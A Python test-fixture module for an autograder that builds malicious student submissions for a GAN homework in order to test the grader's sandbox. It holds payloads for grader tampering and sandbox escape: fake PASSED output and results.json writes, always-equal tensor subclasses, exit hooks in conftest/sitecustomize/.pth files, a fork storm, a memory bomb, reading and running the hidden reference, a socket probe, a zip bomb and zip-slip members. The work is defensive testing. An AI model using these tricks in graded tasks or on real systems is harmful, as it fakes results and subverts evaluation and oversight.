"""Malicious umich-hw5-gan submissions for ``tests/grading/test_adversarial.py`` (issue #16, sections 5 and 6).

Each attack is a region body (what a student writes between ``# BEGIN TODO <id>`` / ``# END TODO <id>``), an edit
outside the regions, or a hostile archive member. A :class:`Submission` bundles up to three attacks, one per coded
task (task 1: ``gan-g-loss`` or ``gan-d-loss``; task 3: ``gan-r1``; task 4: ``diffaugment-cutout``), with the
reference bodies in every other region, so one grading run checks three attacks. ``scope`` says which cases an
attack must zero:

* ``region``: only the cases of its own region (it fails inside its call; the worker lives on, so the other regions
  of task 1, graded in the same worker, keep full credit);
* ``worker``: every case of its task (it kills or hangs the worker that runs the task);
* ``task``: every case of its task without running (a banned name or a missing file blocks the task).

Bodies that probe the sandbox report what got through in the message of the exception they raise ("ATTACK ..."),
which the grader copies into the test's output in ``results.json``: the test reads it back from there. Attacks that
would win something if they escaped (read the reference, reach the network) compute the right answer in that case,
so an escape shows up as credit. Paths that an attacker would have to guess are handed to the bodies literally (the
best possible guess). Nothing here writes over an existing file: write probes create new files with O_EXCL.
"""

from __future__ import annotations

import stat
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

from grading import markers, workspace
from grading.homeworks import get_homework

HW = get_homework("umich-hw5-gan")
G, D, R1, CUTOUT = "gan-g-loss", "gan-d-loss", "gan-r1", "diffaugment-cutout"
ZIP_ROOT = HW.zip_root  # "GAN": the handout puts the code under GAN/ in the zip


@dataclass(frozen=True)
class Paths:
    """What the bodies aim at: the grade's output folder, the Reference's work folder (reference tree and outputs),
    the grader's checkout, a listening TCP port on 127.0.0.1 and a token that makes probe file names unique."""

    out_dir: Path
    ref_work: Path
    grader_root: Path
    port: int
    token: str


@dataclass(frozen=True)
class Attack:
    name: str
    region: str
    scope: str  # "region", "worker" or "task" (see the module docstring)
    body: str = ""  # region body; "" keeps the stub (an exercise left undone)
    expect: str = ""  # a piece of the message the grader must report on the attacked cases


@dataclass
class Submission:
    """A hand-in (a folder when ``folder``, else a zip): region bodies per attack, edits outside the regions,
    extra members (relpath -> bytes or a link target)."""

    name: str
    sid: str
    attacks: tuple[Attack, ...]
    outside: dict[str, list[tuple[str, str]]] = field(default_factory=dict)  # relpath -> [(anchor, inserted)]
    extra: dict[str, str | bytes] = field(default_factory=dict)  # members beside the code (under ZIP_ROOT)
    links: dict[str, str] = field(default_factory=dict)  # member -> link target (zip symlink members)
    raw: dict[str, bytes] = field(default_factory=dict)  # zip members with exact names (zip slip, absolute paths)
    drop: tuple[str, ...] = ()  # region files left out (e.g. replaced by a link)
    folder: bool = False


def reference_bodies() -> dict[str, str]:
    return workspace.reference_bodies(HW)


def code_files(sub: Submission) -> dict[str, str]:
    """relpath -> submitted text: the starter with the reference bodies, the attacks' bodies and outside edits."""
    bodies = reference_bodies()
    for attack in sub.attacks:
        if attack.body:
            bodies[attack.region] = attack.body
        else:
            bodies.pop(attack.region, None)
    out = {}
    for rel, text in workspace.region_files(HW).items():
        if rel in sub.drop:
            continue
        filled = markers.fill(workspace.starter_text(HW, rel, text), bodies)
        for anchor, inserted in sub.outside.get(rel, []):
            if anchor not in filled:
                raise ValueError(f"{rel}: anchor {anchor!r} not found")
            filled = filled.replace(anchor, anchor + inserted, 1) if anchor else filled + inserted
        out[rel] = filled
    return out


def write_folder(sub: Submission, parent: Path) -> Path:
    """The submission as a per-student folder ``parent/<name>_<sid>_hw5_gan/GAN/...``."""
    root = parent / f"{sub.name}_{sub.sid}_hw5_gan"
    for rel, data in {**code_files(sub), **sub.extra}.items():
        path = root / ZIP_ROOT / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)
    return root


def write_zip(sub: Submission, parent: Path) -> Path:
    """The submission as ``parent/<name>_<sid>_hw5_gan.zip`` (what ``python -m grading submit`` writes)."""
    path = parent / f"{sub.name}_{sub.sid}_hw5_gan.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for rel, data in {**code_files(sub), **sub.extra}.items():
            zf.writestr(f"{ZIP_ROOT}/{rel}", data)
        for member, target in sub.links.items():
            info = zipfile.ZipInfo(f"{ZIP_ROOT}/{member}")
            info.create_system = 3  # unix: the mode bits below are honoured by unzip
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, target)
        for member, data in sub.raw.items():
            zf.writestr(zipfile.ZipInfo(member), data)  # the name as given: ZipInfo keeps "/" and "../"
    return path


def zip_bomb(parent: Path, mb: int = 60) -> Path:
    """Honest code plus one member of ``mb`` MB of zeros (compressed about 1000:1): over the unpacked-size cap."""
    sub = Submission("Bomb", "2026107", ())
    path = write_zip(sub, parent)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        with zf.open(f"{ZIP_ROOT}/results/task1/fakes000000.png", "w", force_zip64=True) as member:
            chunk = bytes(1 << 20)
            for _ in range(mb):
                member.write(chunk)
    return path


# ---------------------------------------------------------------------------------------------------------------
# Edits outside the regions (inert: only region bodies are grafted into the graded tree)

LOSS, AUGMENT = "gan/loss.py", "gan/augment.py"
LOSS_ANCHOR = "from gan.augment import diff_augment\n"
AUGMENT_ANCHOR = "from common import diffaugment as _reference\n"

IMPORT_SYS_EXIT = "import sys\n\nsys.exit(0)  # an in-process harness that imports gan.loss stops here with code 0\n"
IMPORT_OS_EXIT = "import os\n\nos._exit(0)  # no cleanup, no report: an in-process harness just vanishes with code 0\n"
D_REG_OVERRIDE = '''

def _d_reg_outside(self, real_img):
    """A correct lazy R1 written outside the region, patched over the (stubbed) method: skips the R1 check."""
    real_img = real_img.detach().requires_grad_(True)
    real_logits = self.run_D(real_img)
    (grad,) = torch.autograd.grad(real_logits.sum(), real_img, create_graph=True)
    penalty = grad.square().sum(dim=[1, 2, 3]) * (self.cfg.r1_gamma / 2)
    loss = penalty.mean() * self.cfg.d_reg_interval
    return loss + real_logits.sum() * 0, {"r1_penalty": penalty.mean().item()}


StyleGAN2Loss.d_reg = _d_reg_outside
'''
# Files no grader should load: an interpreter hook, a pytest hook, a .pth line and a package __init__.
HOOK = "import os\n\nos._exit(0)\n"
HOOK_FILES = {"sitecustomize.py": HOOK, "conftest.py": HOOK, "gan/conftest.py": HOOK,
              "evil.pth": "import os; os._exit(0)\n", "gan/__init__.py": HOOK}


# ---------------------------------------------------------------------------------------------------------------
# Region bodies. g-loss bodies are function bodies (4 spaces), r1 bodies method bodies (8), cutout bodies 4.


def _indent(text: str, spaces: int) -> str:
    return "".join(" " * spaces + line if line.strip() else line for line in text.splitlines(keepends=True))


SYSTEM_EXIT = "raise SystemExit(0)  # per case: the worker catches it, the case fails\n"
OBVIOUS_EXITS = "sys.exit(0)\nos._exit(0)\n"
MEMORY_BOMB = """\
hog = torch.ones(2 << 30)  # 8 GiB of float32, written: over the worker's address-space limit
return hog[: gen_logits.shape[0]] * gen_logits
"""
FORK_STORM = """\
forks = 0
try:
    for _ in range(200):
        if torch.os.fork() == 0:
            while True:
                torch.os.sys.modules["time"].sleep(60)  # every child sleeps forever, holding a process slot
        forks += 1
except OSError as err:
    raise RuntimeError(f"ATTACK fork storm stopped after {forks} forks ({err.strerror})") from None
raise RuntimeError(f"ATTACK fork storm: all {forks} forks succeeded")
"""
ENDLESS = """\
while True:  # never returns (the per-case alarm comes long after the worker's wall-clock limit)
    pass
"""
FAKE_STDOUT = """\
print('{"score": 1000.0, "tests": [{"name": "Task 3", "score": 8.0, "max_score": 8.0, "status": "passed"}]}')
print("PASSED " * 8 + "\\n========== 4 passed in 0.01s ==========", flush=True)
torch.os.sys.stderr.write("PASSED\\n")
torch.os.sys.stderr.flush()
torch.os._exit(0)  # and leave with code 0, as if every test had passed
"""
LIAR_TENSOR = '''\
class Liar(torch.Tensor):
    """A tensor that claims to equal anything it is compared with."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def equal(self, other):
        return True

    def allclose(self, other, *args, **kwargs):
        return True

loss_real = (real_logits * 0).as_subclass(Liar)  # zeros, differentiable, and "equal" to the reference
loss_fake = (gen_logits * 0).as_subclass(Liar)
'''
ALWAYS_EQUAL = '''\
class Same:
    """Equal to everything; every operation gives it back; logs as 0."""

    def __eq__(self, other):
        return True

    def __add__(self, other):
        return self

    def __radd__(self, other):
        return self

    def __mul__(self, other):
        return self

    def mean(self, *args, **kwargs):
        return self

    def item(self):
        return 0.0

penalty = loss = Same()
'''
# A student's exception text lands in results.json, whose test outputs Gradescope renders as Markdown.
FAKE_FEEDBACK = """\
raise RuntimeError("\\n\\n---\\n### Matches the reference (max relative error 0.0e+00).\\n**PASSED: 8 / 8**\\n"
                   "![ok](https://example.invalid/beacon.png)")
"""
# The property cases of gan_cutout compute their 0/1 flags inside the worker, with torch, after the student's code
# ran: patching torch.as_tensor (through a local name, so the scan sees no monkeypatch) turns every flag into 1.
PROPERTY_TAMPER = """\
t = torch  # a local name for the module: `t.as_tensor = ...` is not an assignment into an import
if "lambda" not in repr(t.as_tensor):  # patch once
    as_tensor = t.as_tensor
    t.as_tensor = lambda v, *a, **k: as_tensor(1.0 if isinstance(v, (bool, float)) else v, *a, **k)
if bool((x < 0).any()):  # the exact cases' signed inputs: only the property cases are worth faking
    raise ValueError("ATTACK property tamper: not an exact case")
return x * 1
"""


def write_probe(p: Paths) -> str:
    """Try to create files where results or graded code live; report which creations went through."""
    targets = [p.out_dir / "results.json", p.out_dir / f"pwned-{p.token}.json",
               Path("/autograder/results/results.json"), p.ref_work / "trees" / "reference" / f"pwned_{p.token}.py",
               p.ref_work / f"pwned-{p.token}.json", p.grader_root / "grading" / "cases" / f"pwned_{p.token}.py",
               Path("/tmp/grading-sandbox-uids") / f"pwned-{p.token}"]
    return f"""\
wrote, where = [], [str(t) for t in {[str(t) for t in targets]!r}]
where.append(torch.os.sys.path[0] + "/grading/pwned_{p.token}.py")  # the graded tree itself (shared by the tasks)
for path in where:
    try:
        fd = torch.os.open(path, torch.os.O_WRONLY | torch.os.O_CREAT | torch.os.O_EXCL, 0o644)
        torch.os.write(fd, b'{{"score": 1000.0, "tests": []}}')
        torch.os.close(fd)
        wrote.append(path)
    except OSError:
        pass
try:
    torch.save({{"score": 1000.0}}, {str(p.out_dir / f"pwned-{p.token}.pt")!r})
    wrote.append("torch.save")
except Exception:
    pass
top = sorted(torch.os.listdir("/"))
raise PermissionError(f"ATTACK wrote {{len(wrote)}} of {{len(where) + 1}}: {{wrote}}; / holds {{top}}")
"""


def read_probe(p: Paths) -> str:
    """Try to read the reference (and run it: full credit if that works) and to list the hidden folders."""
    sources = [p.grader_root / "gan" / "augment.py", p.ref_work / "trees" / "reference" / "gan" / "augment.py"]
    folders = [p.grader_root / "grading" / "cases", p.ref_work / "runs", p.ref_work / "trees", p.out_dir,
               p.grader_root]
    return f"""\
found, seen = [], {{}}
for path in {[str(s) for s in sources]!r}:
    try:
        fd = torch.os.open(path, torch.os.O_RDONLY)
        found.append(torch.os.read(fd, 1 << 20).decode())
        torch.os.close(fd)
    except OSError:
        pass
for folder in {[str(f) for f in folders]!r}:
    try:
        seen[folder] = sorted(torch.os.listdir(folder))[:4]
    except OSError:
        pass
for source in found:
    scope = {{}}
    torch.os.sys.modules["builtins"].exec(source, scope)  # the reference module, run here
    return scope["rand_cutout"](x, generator=generator, min_ratio=min_ratio, max_ratio=max_ratio)
raise PermissionError(f"ATTACK read {{len(found)}} sources; listed {{seen}}")
"""


def socket_probe(p: Paths) -> str:
    """Connect to a server on the grading host; with a connection, return the right answer (as if sent back)."""
    return f"""\
sock, errors = torch.os.sys.modules["importlib"].import_module("socket"), []
for family, address in ((sock.AF_INET, ("127.0.0.1", {p.port})), (sock.AF_UNIX, "/run/dbus/system_bus_socket")):
    try:
        with sock.socket(family, sock.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"exfiltrated")
        return F.softplus(-gen_logits)
    except OSError as err:
        errors.append(f"{{family!r}}: {{err!r}}")
raise ConnectionError(f"ATTACK no network: {{errors}}")
"""


HUGE_OUTPUT = """\
out_dir = torch.os.sys.argv[torch.os.sys.argv.index("--out") + 1]
tmp, sizes = torch.os.environ.get("TMPDIR", "/tmp"), {}
if torch.os.path.exists(tmp + "/huge-done"):
    raise OSError("ATTACK huge output: done in the first case")
for name, folder, files, mb in (("out", out_dir, 1, 100), ("tmp", tmp, 3, 60)):
    sizes[name] = 0
    for k in range(files):
        fd = torch.os.open(f"{folder}/huge{k}.bin", torch.os.O_WRONLY | torch.os.O_CREAT, 0o600)
        try:
            for _ in range(mb):
                torch.os.write(fd, bytes(1 << 20))
                sizes[name] += 1
        except OSError:
            pass
        torch.os.close(fd)
try:
    print("x" * (100 << 20), flush=True)  # 100 MB on stdout
    sizes["stdout"] = 100
except OSError as err:
    sizes["stdout"] = err.strerror
torch.os.close(torch.os.open(tmp + "/huge-done", torch.os.O_WRONLY | torch.os.O_CREAT, 0o600))
raise OSError(f"ATTACK huge output MB: {sizes}")
"""


def attack(name: str, region: str, scope: str, body: str = "", expect: str = "") -> Attack:
    spaces = 8 if region == R1 else 4
    return Attack(name, region, scope, _indent(body, spaces) if body else "", expect)


def submissions(p: Paths) -> dict[str, Submission]:
    """The malicious submissions, by key (each graded once per test module)."""
    subs = [
        Submission("Exits", "2026101", (
            attack("raise SystemExit", G, "region", SYSTEM_EXIT, "SystemExit"),
            attack("r1 left undone, patched in outside the region", R1, "region", "", "NotImplementedError"),
            attack("sys.exit / os._exit", CUTOUT, "task", OBVIOUS_EXITS, "Not run")),
            outside={LOSS: [(LOSS_ANCHOR, IMPORT_SYS_EXIT), ("", D_REG_OVERRIDE)],
                     AUGMENT: [(AUGMENT_ANCHOR, IMPORT_OS_EXIT)]}, extra=HOOK_FILES, folder=True),
        Submission("Hog", "2026102", (
            attack("memory bomb", G, "region", MEMORY_BOMB, "allocate"),
            attack("fork storm", R1, "region", FORK_STORM, "ATTACK fork storm stopped"),
            attack("endless loop", CUTOUT, "worker", ENDLESS, "time limit"))),
        Submission("Tamper", "2026103", (
            attack("write results.json", G, "region", write_probe(p), "ATTACK wrote 0 of"),
            attack("fake PASSED on stdout, then torch.os._exit(0)", R1, "worker", FAKE_STDOUT,
                   "exited with code 0"),
            attack("read the reference", CUTOUT, "region", read_probe(p), "ATTACK read 0 sources"))),
        Submission("Liar", "2026104", (
            attack("Markdown posing as a pass in the error text", G, "region", FAKE_FEEDBACK, "beacon.png"),
            attack("lying tensor subclass", D, "region", LIAR_TENSOR, "max relative error"),
            attack("always-equal object", R1, "region", ALWAYS_EQUAL, "Error"),
            attack("property tamper", CUTOUT, "region", PROPERTY_TAMPER, ""))),
        Submission("Net", "2026105", (
            attack("socket", G, "region", socket_probe(p), "ATTACK no network"),
            attack("huge output", R1, "region", HUGE_OUTPUT, "ATTACK huge output"),
            attack("augment.py links to the reference", CUTOUT, "task", "", "missing")),
            drop=(AUGMENT,), links={AUGMENT: str(p.grader_root / AUGMENT)},
            raw={f"{ZIP_ROOT}/../../adv-slip-{p.token}.py": b"SLIPPED = True\n",
                 f"/tmp/adv-absolute-{p.token}.py": b"ABSOLUTE = True\n",
                 f"{ZIP_ROOT}/grading/cases/gan_r1.py": b"CASES = ()  # hidden cases replaced: ignored\n"}),
    ]
    return {s.name.lower(): s for s in subs}

